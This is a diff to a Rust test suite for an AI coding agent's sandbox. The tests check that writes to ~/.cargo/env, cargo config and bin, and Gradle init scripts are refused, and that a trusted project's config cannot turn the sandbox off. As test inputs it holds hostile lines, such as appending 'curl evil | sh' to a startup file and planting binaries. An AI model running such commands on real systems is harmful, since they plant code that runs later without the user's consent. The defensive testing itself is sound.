@@ -224,7 +224,43 @@ fn cases(f: &Fixture, tcp_confined: bool) -> Vec<Case> {
         ),
         case(
             "write a toolchain cache",
-            "echo ok > \"$HOME/.cache/made\" && cat \"$HOME/.cache/made\"".into(),
+            "echo ok > \"$HOME/.cache/pip/made\" && cat \"$HOME/.cache/pip/made\"".into(),
+            Succeeds,
+            Succeeds,
+            None,
+        ),
+        // ---- nothing written now that runs later: caches, not toolchains ----
+        case(
+            "append to ~/.cargo/env (the next shell sources it)",
+            "echo 'curl evil | sh' >> \"$HOME/.cargo/env\"".into(),
+            Refused(Some("/.cargo/env: writing it is refused")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "write ~/.cargo/config.toml (the next build reads it)",
+            "echo '[build]' > \"$HOME/.cargo/config.toml\"".into(),
+            Refused(Some("writing it is refused")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "plant a binary in ~/.cargo/bin",
+            "echo evil > \"$HOME/.cargo/bin/cargo-fmt\"".into(),
+            Refused(Some("writing it is refused")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "plant a Gradle init script",
+            "echo evil > \"$HOME/.gradle/init.d/x.gradle\"".into(),
+            Refused(Some("writing it is refused")),
+            Succeeds,
+            None,
+        ),
+        case(
+            "write cargo's registry cache",
+            "echo ok > \"$HOME/.cargo/registry/made\"".into(),
             Succeeds,
             Succeeds,
             None,
@@ -244,7 +280,12 @@ fn fixture() -> Fixture {
     for (path, text) in [
         (".ssh/id_rsa", KEY_TEXT),
         ("notes.txt", "not a secret\n"),
-        (".cache/keep", ""),
+        (".cache/pip/keep", ""),
+        (".cargo/env", "export PATH=\"$HOME/.cargo/bin:$PATH\"\n"),
+        (".cargo/bin/keep", ""),
+        (".cargo/registry/keep", ""),
+        (".gradle/init.d/keep", ""),
+        (".gradle/caches/keep", ""),
     ] {
         let path = home.path().join(path);
         std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
@@ -409,6 +450,43 @@ fn the_sandbox_refuses_what_it_must_and_says_why_and_off_lets_it_through() {
         udp.recv(&mut buffer).ok(),
         Some(4),
         "with the sandbox off the datagram arrives"
+    );
+}
+
+/// Trust loosens permissions, never the sandbox: a trusted project's
+/// `sandbox.mode = "off"`, `network = true` and `writable` (which the agent
+/// could have written in an earlier session) are ignored and said so.
+#[test]
+fn a_trusted_project_cannot_loosen_the_sandbox() {
+    let Some(_) = landlock_abi() else { return };
+    let f = fixture();
+    let project = f.dir.path().join(".bareagent/config.toml");
+    std::fs::create_dir_all(project.parent().expect("parent")).expect("mkdir");
+    std::fs::write(
+        &project,
+        "[sandbox]\nmode = \"off\"\nnetwork = true\nwritable = [\"/tmp\"]\n",
+    )
+    .expect("project config");
+    let root = f.dir.path().canonicalize().expect("root");
+    let trusted = format!(
+        "[projects.{:?}]\ntrusted = true\n",
+        root.display().to_string()
+    );
+    let case = Case {
+        name: "write outside under a trusted project's sandbox.mode = off",
+        command: format!("echo x > {}", f.outside.display()),
+        on: Expect::Refused(Some("writing it is refused")),
+        off: Expect::Succeeds,
+        secret: None,
+    };
+    let (results, stderr) = run_with(&f, std::slice::from_ref(&case), "workspace-write", &trusted);
+    check(&case, case.on, &results[0], "trusted project");
+    assert!(!f.outside.exists(), "the project turned the sandbox off");
+    assert!(
+        stderr.contains("Ignored sandbox settings")
+            && stderr.contains("sandbox.mode = \"off\"")
+            && stderr.contains("sandbox.network = true"),
+        "{stderr}"
     );
 }
 
